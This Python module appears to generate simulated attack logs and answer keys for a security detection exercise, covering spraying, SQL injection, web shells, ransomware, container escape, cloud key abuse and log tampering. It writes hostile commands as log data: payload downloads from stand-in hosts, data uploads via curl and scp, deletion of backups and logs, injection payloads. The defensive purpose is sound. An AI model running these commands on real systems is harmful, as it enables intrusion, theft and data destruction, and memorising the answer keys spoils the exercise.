"""Attacks.  Each writes what the victims would log and adds its truth to the world."""
import services as s
from world import DESKS, UIDS

PEOPLE = ["alice", "bob", "carol", "heidi", "deploy", "frank", "grace", "judy", "mallory", "niaj",
          "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "wendy", "oscar", "erin"]


def steps(w, t, gap=6):
    """Times one after another, never quite even."""
    while True:
        yield t
        t += gap * (.4 + 1.2 * w.rng.random())


def truth(w, attackers, victims, users, techniques, success, must, foothold=None, right=()):
    w.incident(attackers=attackers, victims=victims, users=users, techniques=techniques,
               success=success, must_contain_in_incident=must, foothold=foothold,
               right_containment=[{"action": a, "target": t} for a, t in right])


# -- passwords
def spraying(w, part=.1, pool="203.0.113.4", success=True, host="ssh01"):
    """One password for everybody, slowly, from a pool of addresses."""
    ips = [f"{pool}{i}" for i in range(1, 6)]
    t, winner = steps(w, w.at(part), 9), "judy"
    for round_ in range(2):
        for i, user in enumerate(PEOPLE):
            if success and round_ and user == winner:
                continue
            s.ssh_failed(w, host, next(t), user, ips[(i + round_) % 5])
    who = ips[2]
    if success:
        at = next(t)
        s.ssh_login(w, host, at, winner, who, mark="spray", length=90, uid=1020)
        s.sudo_refused(w, host, at + 20, winner, "/usr/bin/cat /etc/shadow")
    truth(w, ips, [host], [winner] if success else [], ["T1110.003"] + ["T1078"] * success, success,
          ips[:2] + [host] + [winner] * success, "spray" if success else None,
          [("block_address", ip) for ip in ips] + [("reset_password", f"{winner}@{host}")] * success)


def stuffing(w, part=.1):
    """Stolen pairs of name and password tried once each on the shop, from many addresses."""
    ips = [f"203.0.113.{i}" for i in range(100, 140)]
    won = {"user07": ips[11], "user31": ips[23], "user52": ips[36]}
    t = steps(w, w.at(part), 2.2)
    for i in range(150):
        s.web_login(w, next(t), ips[i % 40], f"{w.rng.choice('abcdefgh')}{i}@example.com", False,
                    agent="python-requests/2.31.0")
    for i, (user, ip) in enumerate(won.items()):
        at = next(t) + 3
        s.web_login(w, at, ip, user, True, agent="python-requests/2.31.0", mark="stuffing")
        s.request(w, "web01", at + 2, ip, "GET /account.php", 200, 32, "python-requests/2.31.0")
        for _ in range(20):
            s.web_login(w, next(t), ips[w.rng.randint(0, 39)], f"x{i}{_}@example.org", False,
                        agent="python-requests/2.31.0")
    truth(w, ips, ["web01"], list(won), ["T1110.004", "T1078"], True,
          list(won) + [ips[11], ips[23], "web01"], "stuffing", [("reset_password", "user07@web01")])


def stolen_password(w, part=.4, host="ssh01", ip="203.0.113.141", user="bob"):
    """A clean logon from where its owner never was, then a look around and a way back."""
    t = w.at(part)
    s.ssh_login(w, host, t, user, ip, mark="stolen", length=240, uid=UIDS[user])
    s.sudo(w, host, t + 30, user, "/usr/bin/cat /etc/shadow", uid=UIDS[user])
    s.sudo(w, host, t + 60, user, "/usr/bin/tar czf /tmp/e.tgz /etc /home", uid=UIDS[user])
    s.sudo(w, host, t + 95, user, "/usr/bin/tee -a /root/.ssh/authorized_keys", uid=UIDS[user])
    truth(w, [ip], [host], [user], ["T1078", "T1003.008", "T1098.004"], True,
          [ip, user, host, "authorized_keys"], "stolen",
          [("block_address", ip), ("reset_password", f"{user}@{host}")])


def mail_guessing(w, part=.1, ip="203.0.113.151", success=True):
    """SMTP and IMAP passwords guessed; what was read is read again from elsewhere."""
    t = steps(w, w.at(part), 3)
    for _ in range(35):
        s.smtp_failed(w, next(t), "sales", ip)
    for _ in range(25):
        s.imap_failed(w, next(t), "sales", ip, 3)
    if success:
        s.imap_login(w, next(t), "sales", ip, mark="mail")
        s.imap_login(w, next(t) + 20, "sales", "203.0.113.152")
    truth(w, [ip] + ["203.0.113.152"] * success, ["mail01"], ["sales"],
          ["T1110.001"] + ["T1078", "T1114.002"] * success, success,
          [ip, "sales", "mail01"], "mail" if success else None, [("block_address", ip)])


def phished_mailbox(w, part=.3, ip="203.0.113.161"):
    """A mailbox is opened with its right password from abroad and sends the same to everybody."""
    t = w.at(part)
    s.imap_login(w, t, "carol", ip, mark="phish")
    tag = f"dovecot"
    w.syslog("mail01", "mail.log", t + 12, tag, "managesieve-login: Login: user=<carol>, method=PLAIN, "
             f"rip={ip}, lip={w.addr['mail01']}, mpid=4711, TLS, session=<9a8b7c6d>")
    for i in range(60):
        s.smtp_sent(w, t + 30 + 2 * i, "carol", ip, f"partner{i}@example.org")
    truth(w, [ip], ["mail01"], ["carol"], ["T1078", "T1114.003", "T1534"], True,
          [ip, "carol", "mail01"], "phish", [("reset_password", "carol@mail01")])


# -- web
def traversal(w, part=.3, host="web02", ip="203.0.113.71", success=True):
    page = "/cgi-bin/view.cgi?file=" if host == "web02" else "/view.php?file="
    t, ups = steps(w, w.at(part), 4), "../" * 5
    for i in range(1, 7):
        s.request(w, host, next(t), ip, f"GET {page}{'../' * i}etc/passwd", 404 if not success else 200,
                  153 if not success else 61, "curl/7.88.1")
    for f in ("boot.ini", "windows/win.ini", "proc/self/environ"):
        s.request(w, host, next(t), ip, f"GET {page}..%2f..%2f..%2f{f}", 404, 153, "curl/7.88.1")
    if success:
        s.request(w, host, next(t), ip, f"GET {page}{ups}etc/passwd", 200, 1823, "curl/7.88.1",
                  mark="traversal")
        s.request(w, host, next(t), ip, f"GET {page}{ups}var/www/html/config.php", 200, 734, "curl/7.88.1")
        s.request(w, host, next(t), ip, f"GET {page}{ups}home/deploy/.ssh/id_ed25519", 200, 411,
                  "curl/7.88.1")
    truth(w, [ip], [host], [], ["T1190"] + ["T1083", "T1552.001"] * success, success,
          [ip, host, "etc/passwd"], "traversal" if success else None, [("block_address", ip)])


def sql_injection(w, part=.3, ip="203.0.113.73", success=True):
    t = steps(w, w.at(part), 1.2)
    tries = ["1'", "1' AND 1=1-- -", "1' AND 1=2-- -", "1' ORDER BY 7-- -",
             "1' UNION SELECT NULL,NULL,NULL-- -", "1' AND SLEEP(5)-- -", "1) OR 3421=3421#",
             "1' UNION SELECT table_name,2,3 FROM information_schema.tables-- -"]
    for i in range(40):
        s.request(w, "web01", next(t), ip, "GET /product.php?id=" + s.quote(w.rng.choice(tries)),
                  200 if success and i % 3 else 500 if success else 403, 512)
    if success:
        for i in range(8):
            query = s.quote(f"-1' UNION SELECT email,password,3 FROM customers LIMIT {i * 500},500-- -")
            s.request(w, "web01", next(t), ip, f"GET /product.php?id={query}", 200,
                      48211 + i * 97, mark="sql")
    truth(w, [ip], ["web01"], [], ["T1190"] + ["T1213"] * success, success, [ip, "web01", "product.php"],
          "sql" if success else None, [("block_address", ip)])


def web_shell(w, part=.3, ip="203.0.113.81", second="203.0.113.82", host="web02"):
    """An upload form takes a script; it runs commands, calls out, and comes back by cron."""
    t = w.at(part)
    s.request(w, host, t, ip, "GET /gallery/upload.php", 200, 812)
    s.request(w, host, t + 5, ip, "POST /gallery/upload.php", 200, 44, mark="shell")
    for i, c in enumerate(("whoami", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www", "ps+aux")):
        s.request(w, host, t + 15 + i * 7, ip, f"GET /gallery/files/thumb.php?cmd={c}", 200, 60 + i * 300)
        s.audit_exec(w, host, t + 15 + i * 7, 33, ["sh", "-c", c.replace("+", " ")],
                     "/var/www/html/gallery/files", exe="/usr/bin/dash")
        s.audit_exec(w, host, t + 15.1 + i * 7, 33, c.split("+"), "/var/www/html/gallery/files")
    s.audit_exec(w, host, t + 60, 33, ["sh", "-c", f"curl -o /tmp/.upd http://{second}/upd"],
                 "/var/www/html/gallery/files", exe="/usr/bin/dash")
    s.audit_exec(w, host, t + 60, 33, ["curl", "-o", "/tmp/.upd", f"http://{second}/upd"])
    s.connection(w, t + 60, w.addr[host], second, 80)
    s.audit_exec(w, host, t + 75, 33, ["crontab", "-"])
    w.syslog(host, "syslog", t + 75, f"crontab[{w.next_pid()}]", "(www-data) REPLACE (www-data)")
    for i in range(5):
        s.cron(w, host, t + 120 + i * 60, "www-data", "/tmp/.upd >/dev/null 2>&1")
        s.connection(w, t + 121 + i * 60, w.addr[host], second, 8443)
    truth(w, [ip, second], [host], ["www-data"],
          ["T1190", "T1505.003", "T1059.004", "T1053.003", "T1105", "T1082"], True,
          [ip, second, host, "thumb.php", "www-data"], "shell",
          [("block_address", ip), ("block_address", second), ("isolate_host", host),
           ("remove_cron", f"www-data@{host}")])


def scan_web(w, part=.2, ip="203.0.113.75"):
    t = steps(w, w.at(part), .25)
    for i in range(500):
        word = "".join(w.rng.choice("abcdefghilmnoprstu") for _ in range(6))
        s.request(w, "web01", next(t), ip, f"GET /{word}", 404, 153, "feroxbuster/2.10.0")
    truth(w, [ip], ["web01"], [], ["T1595.003"], False, [ip, "web01"], None, [("block_address", ip)])


def scan_ports(w, part=.2, ip="203.0.113.77"):
    t = steps(w, w.at(part), .05)
    targets = [a for h, a in w.addr.items() if h in w.hosts and a.startswith("198.51.100.")]
    for target in targets:
        ports = w.rng.sample(range(1, 10000), 300)
        for p in ports:
            s.connection(w, next(t), ip, target, p, prefix="FW-DROP")
    truth(w, [ip], [], [], ["T1595.001", "T1046"], False, [ip], None, [("block_address", ip)])


# -- inside
def lateral(w, part=.2, ip="203.0.113.91"):
    """In with a stolen key, from host to host with the keys found there."""
    t = w.at(part)
    ssh01, app01 = w.addr["ssh01"], w.addr["app01"]
    s.ssh_login(w, "ssh01", t, "deploy", ip, "publickey", 400, mark="lateral", uid=UIDS["deploy"])
    s.sudo(w, "ssh01", t + 20, "deploy", "/usr/bin/cat /root/.ssh/id_ed25519", uid=UIDS["deploy"])
    s.ssh_failed(w, "app01", t + 55, "root", ssh01)
    s.ssh_login(w, "app01", t + 60, "deploy", ssh01, "publickey", 300, uid=UIDS["deploy"])
    s.sudo(w, "app01", t + 80, "deploy", "/usr/bin/cat /etc/shadow", uid=UIDS["deploy"])
    for i, h in enumerate(("fs01", "dns01", "log01")):
        if h in w.hosts:
            s.connection(w, t + 90 + i, app01, w.addr[h], 22, prefix="FW-INT")
    s.ssh_login(w, "fs01", t + 120, "root", app01, "publickey", 200, uid=0)
    truth(w, [ip], ["ssh01", "app01", "fs01"], ["deploy", "root"],
          ["T1078", "T1021.004", "T1552.004", "T1003.008"], True,
          [ip, "deploy", "ssh01", "app01", "fs01"], "lateral",
          [("block_address", ip), ("revoke_key", "deploy@ssh01")])


def insider(w, part=.3, user="carol"):
    """Her own account: files that are not hers, at night, and off to a private server."""
    t, desk, away = w.at(part), DESKS[user], "203.0.113.99"
    s.ssh_login(w, "fs01", t - 2, user, desk, "publickey", 200, uid=UIDS[user])
    s.sudo_refused(w, "fs01", t + 5, user, "/usr/bin/cat /srv/share/hr/salaries.xlsx")
    read = []
    for i in range(60):
        read += s.sftp_read(f"/srv/share/{w.rng.choice(('hr', 'finance', 'board'))}/contract-{i}.pdf",
                            w.rng.randint(80000, 4000000))
    s.sftp(w, "fs01", t + 20, user, desk, read, mark="insider")
    for i in range(6):
        s.connection(w, t + 150 + i * 5, desk, away, 22)
    truth(w, [desk], ["fs01"], [user], ["T1078", "T1039", "T1048"], True, [user, "fs01", desk],
          "insider", [("lock_account", f"{user}@fs01")])


def dns_exfiltration(w, part=.2, client="192.0.2.121"):
    t = steps(w, w.at(part), .7)
    for i in range(300):
        label = "".join(w.rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(52))
        s.dns(w, next(t), client, f"{label}.{i:x}.telemetry-sync.example",
              w.rng.choice(("TXT", "TXT", "A")), "NXDOMAIN")
    truth(w, [client], ["dns01"], [], ["T1048.003", "T1071.004"], True,
          [client, "telemetry-sync.example"], None, [("block_domain", "telemetry-sync.example")])


def upload(w, part=.3, ip="203.0.113.111"):
    """In with a guessed password, data packed and sent away by curl and scp."""
    t = steps(w, w.at(part - .2), 2)
    for _ in range(40):
        s.ssh_failed(w, "ssh01", next(t), "alice", ip)
    at = next(t) + 3
    s.ssh_login(w, "ssh01", at, "alice", ip, mark="upload", length=200, uid=1001)
    for i, argv in enumerate((["tar", "czf", "/tmp/.c.tgz", "/srv/data"],
                              ["curl", "-T", "/tmp/.c.tgz", "https://203.0.113.112/in/"],
                              ["scp", "/tmp/.c.tgz", "x@203.0.113.112:/tmp/"])):
        s.audit_exec(w, "ssh01", at + 20 + 15 * i, 1001, argv, auid=1001)
    for i in range(4):
        s.connection(w, at + 36 + i * 3, w.addr["ssh01"], "203.0.113.112", 443)
    truth(w, [ip, "203.0.113.112"], ["ssh01"], ["alice"],
          ["T1110.001", "T1078", "T1560.001", "T1048"], True,
          [ip, "203.0.113.112", "alice", "ssh01"], "upload", [("block_address", ip)])


def ransomware(w, part=.3, ip="203.0.113.121"):
    """Root over the VPN of nobody: backups gone, services stopped, files renamed."""
    t, pid = w.at(part), 7331
    s.ssh_login(w, "fs01", t, "root", ip, mark="ransom", length=300, uid=0)
    cmds = (["systemctl", "stop", "smbd"], ["systemctl", "stop", "mariadb"],
            ["rm", "-rf", "/srv/backup"], ["rm", "-rf", "/var/backups"],
            ["wget", "-q", f"http://{ip}/l.py", "-O", "/tmp/.x.py"], ["python3", "/tmp/.x.py"])
    for i, argv in enumerate(cmds):
        s.audit_exec(w, "fs01", t + 15 + i * 6, 0, argv, auid=0)
    for i in range(220):
        path = f"/srv/share/{w.rng.choice(('sales', 'projects', 'hr'))}/doc{i}.odt"
        s.audit_rename(w, "fs01", t + 60 + i * .2, 0, path, path + ".locked", auid=0, pid=pid)
    s.audit_exec(w, "fs01", t + 110, 0, ["cp", "/tmp/README_RESTORE.txt", "/srv/share/"], auid=0)
    truth(w, [ip], ["fs01"], ["root"], ["T1078", "T1486", "T1490", "T1489"], True,
          [ip, "fs01", "root", ".locked"], "ransom", [("block_address", ip), ("isolate_host", "fs01")])


def container_escape(w, part=.3, ip="203.0.113.131"):
    t = w.at(part)
    for i in range(12):
        s.ssh_failed(w, "app01", t - 40 + 3 * i, "deploy", ip)
    s.ssh_login(w, "app01", t, "deploy", ip, mark="escape", length=200, uid=UIDS["deploy"])
    for i, argv in enumerate((
            ["docker", "run", "--rm", "-it", "--privileged", "-v", "/:/mnt", "alpine", "sh"],
            ["chroot", "/mnt", "/bin/bash"], ["nsenter", "--target", "1", "--mount", "--pid", "bash"],
            ["cat", "/mnt/etc/shadow"])):
        s.audit_exec(w, "app01", t + 20 + 9 * i, 0 if i else UIDS["deploy"], argv, "/",
                     auid=UIDS["deploy"])
    truth(w, [ip], ["app01"], ["deploy"], ["T1110.001", "T1078", "T1611", "T1003.008"], True,
          [ip, "deploy", "app01", "nsenter"], "escape", [("block_address", ip)])


def cloud_keys(w, part=.2, ip="203.0.113.171", user="ci-runner"):
    t = steps(w, w.at(part), 7)
    s.cloudtrail(w, next(t), "sts", "GetCallerIdentity", user, ip, mark="cloud")
    for name in ("ListBuckets", "ListUsers", "ListRoles", "DescribeInstances", "ListAccessKeys"):
        s.cloudtrail(w, next(t), "ec2" if "Inst" in name else "iam", name, user, ip)
    for name in ("GetSecretValue", "PutUserPolicy"):
        s.cloudtrail(w, next(t), "iam", name, user, ip, error="AccessDenied")
    s.cloudtrail(w, next(t), "iam", "CreateUser", user, ip, {"userName": "support-svc"})
    s.cloudtrail(w, next(t), "iam", "CreateAccessKey", user, ip, {"userName": "support-svc"})
    s.cloudtrail(w, next(t), "iam", "AttachUserPolicy", user, ip, {
        "userName": "support-svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
    s.cloudtrail(w, next(t), "cloudtrail", "StopLogging", user, ip, {"name": "main"})
    for i in range(40):
        s.cloudtrail(w, next(t) - i * 5, "s3", "GetObject", user, ip,
                     {"bucketName": "customer-exports", "key": f"2026/{i}.csv"})
    truth(w, [ip], [], [user, "support-svc"],
          ["T1078.004", "T1136.003", "T1098", "T1562.008", "T1530"], True, [ip, user, "support-svc"],
          "cloud", [("revoke_key", user)])


def log_tampering(w, part=.2, ip="203.0.113.176"):
    t = steps(w, w.at(part), 2)
    for i in range(60):
        s.ssh_failed(w, "app01", next(t), w.rng.choice(("root", "admin", "erin")), ip,
                     known=i % 3 != 1)
    at = next(t)
    s.ssh_login(w, "app01", at, "erin", ip, mark="tamper", length=150, uid=1030)
    for i, command in enumerate(("/usr/bin/systemctl stop rsyslog", "/usr/bin/rm -f /var/log/auth.log.1",
                                 "/usr/bin/journalctl --vacuum-time=1s",
                                 "/usr/bin/shred -u /var/log/wtmp")):
        s.sudo(w, "app01", at + 15 + 12 * i, "erin", command, uid=1030)
    truth(w, [ip], ["app01"], ["erin"], ["T1110.001", "T1078", "T1070.002"], True,
          [ip, "erin", "app01"], "tamper", [("block_address", ip)])
